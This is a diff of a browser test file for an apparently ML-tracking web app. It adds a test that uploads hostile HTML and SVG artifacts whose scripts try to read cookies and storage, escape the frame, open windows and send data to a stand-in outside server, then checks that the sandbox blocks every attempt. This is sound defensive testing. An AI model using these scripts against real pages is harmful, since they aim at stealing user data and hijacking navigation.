@@ -1,4 +1,6 @@
-import { beforeAll, expect, it } from "vitest";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { beforeAll, expect, it, vi } from "vitest";
 import { base, look, project, settled, visit, withBrowser } from "./browser";
 
 withBrowser();
@@ -147,6 +149,7 @@ it("zooms by the mouse and by keys, and keeps it in the address", async () => {
   await v.page.keyboard.press("0");
   await v.page.waitForURL((url) => !url.search.includes("zoom"));
   await v.page.getByRole("button", { name: "Show as a table: auc" }).click();
+  await v.page.getByRole("button", { name: "Show more of 300 rows" }).click();
   await v.page.getByRole("group", { name: "auc" }).getByText("299").waitFor();
   expect(v.troubles).toEqual([]);
   await v.close();
@@ -188,6 +191,63 @@ it("runs a page of an artifact without an origin, and shows its source", async (
   await v.close();
 });
 
+// What a page, or a picture, of somebody else could do to the reader, and to the program.
+const hostile = (out: string) => `<h1 id=h></h1><form id=f action="${out}/form" method=post></form>
+<img src="${out}/picture"><link rel=stylesheet href="${out}/style"><script>
+const say = (what) => (h.textContent += what + "; ");
+for (const [name, act] of Object.entries({
+  cookie: () => document.cookie, kept: () => localStorage.length, around: () => parent.document.title,
+  top: () => (top.location = "${out}/top"), opened: () => open("${out}/window").name,
+})) try { act(); say(name + " went through"); } catch (err) { say(name + " refused"); }
+f.submit();
+fetch("/api/v1/projects").then(() => say("asked"), () => say("fetch refused"));
+fetch("${out}/data").then(() => say("sent"), () => say("sending refused"));
+</script><button onclick="location = '${out}/self'">leave</button>`;
+
+it("lets what an artifact runs reach neither the program nor the network", async () => {
+  const reached: string[] = [];
+  const server = createServer((req, res) => {
+    reached.push(req.url ?? "");
+    res.setHeader("Access-Control-Allow-Origin", "*");
+    res.end("reached");
+  });
+  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
+  const out = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  const put = (path: string, raw: string) =>
+    send(
+      "PUT",
+      `/mlflow-artifacts/artifacts/${experiment}/${runs[0]}/artifacts/${path}`,
+      undefined,
+      raw,
+    );
+  const content = (path: string) =>
+    `/api/v1/projects/${project}/artifacts/content?run=${runs[0]}&path=${path}`;
+  await put("hostile.html", hostile(out));
+  await put(
+    "hostile.svg",
+    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${out}/svg"/><script>
+     document.documentElement.setAttribute("data-ran", "1"); fetch("${out}/script");</script></svg>`,
+  );
+  const v = await visit(page(runs[0], "?tab=artifacts&path=hostile.html"));
+  const frame = v.page.frameLocator("iframe");
+  await frame.getByText(/opened refused.*sending refused/).waitFor();
+  expect(await frame.locator("h1").textContent()).not.toMatch(/through|asked|sent/);
+  await frame.getByText("leave").click();
+  await vi.waitFor(() => expect(v.troubles.join()).toContain("frame-src"));
+  await v.page.goto(base + page(runs[0], "?tab=artifacts&path=hostile.svg"));
+  await v.page.getByText("9 × 9").waitFor();
+  await v.page.goto(base + content("hostile.svg"));
+  expect(await v.page.evaluate(() => document.documentElement.hasAttribute("data-ran"))).toBe(
+    false,
+  );
+  await v.page.goto(base + content("hostile.html"));
+  expect(await v.page.evaluate(() => document.contentType)).toBe("text/plain");
+  expect(new URL(v.page.url()).origin).toBe(base);
+  expect(reached).toEqual([]);
+  await v.close();
+  await new Promise((done) => server.close(done));
+});
+
 it("goes through files and pages of a table", async () => {
   const v = await visit(page(runs[0], "?tab=artifacts"));
   await v.page.getByRole("button", { name: /rows\.csv/ }).click();
@@ -215,6 +275,11 @@ it("compares: what differs, the front, and a run left out", async () => {
     .waitFor();
   await v.page.getByRole("button", { name: "Leave out story-2" }).click();
   await v.page.getByRole("heading", { name: "Compare 2 runs" }).waitFor();
+  await v.page.getByRole("combobox", { name: "Add a run" }).selectOption({ label: "story-going" });
+  await v.page.getByRole("heading", { name: "Compare 3 runs" }).waitFor();
+  await v.page.getByRole("tab", { name: "Parallel coordinates" }).click();
+  await v.page.getByRole("slider", { name: "Runs kept along depth" }).press("ArrowDown");
+  await v.page.getByText(/^1 of 3 pass: story-0/).waitFor();
   expect(v.troubles).toEqual([]);
   await v.close();
 });
